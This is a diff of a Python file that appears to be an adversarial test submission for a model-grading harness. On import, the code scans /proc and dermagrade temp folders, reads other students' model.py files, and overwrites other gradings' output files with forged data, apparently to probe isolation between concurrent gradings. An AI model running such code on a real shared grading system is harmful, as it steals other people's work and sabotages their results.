@@ -2,17 +2,17 @@
 as `nobody` in 0755 folders, and one overwrote another's status file 773 times).
 
 For 30 s from import it looks for other gradings' folders (temp folders named dermagrade-*, and every
-process's cwd and root in /proc), reads the other student's model.py, and keeps overwriting any status.json it
-can reach with a forged failure. It prints what it found; then it trains honestly.
+process's cwd and root in /proc), reads the other student's model.py, and keeps overwriting any file it can
+reach in another grading's out/ (its parameter shapes and predictions). It prints what it found; then it trains
+honestly.
 """
 import glob
-import json
 import os
 import time
 
 import torch.nn as nn
 
-FORGED = json.dumps({"stage": "started", "error": {"check": "crash", "message": "neighbour: FORGED"}})
+FORGED = b"neighbour: FORGED"
 
 
 def _say(msg):
@@ -45,16 +45,16 @@ def _attack(seconds=30.0):
                         _say(f"READ another student's {path}")
                     except OSError:
                         pass
-            for path in glob.glob(os.path.join(folder, "**", "status.json"), recursive=True):
+            for path in glob.glob(os.path.join(folder, "**", "out", "*"), recursive=True):
                 if not path.startswith(os.path.dirname(me)):
                     try:
-                        with open(path, "w") as f:
+                        with open(path, "wb") as f:
                             f.write(FORGED)
                         overwrote += 1
                     except OSError:
                         pass
         time.sleep(0.05)
-    _say(f"looked at {len(seen)} folders, read {len(read)} other submissions, overwrote {overwrote} status files")
+    _say(f"looked at {len(seen)} folders, read {len(read)} other submissions, overwrote {overwrote} output files")
 
 
 _attack()
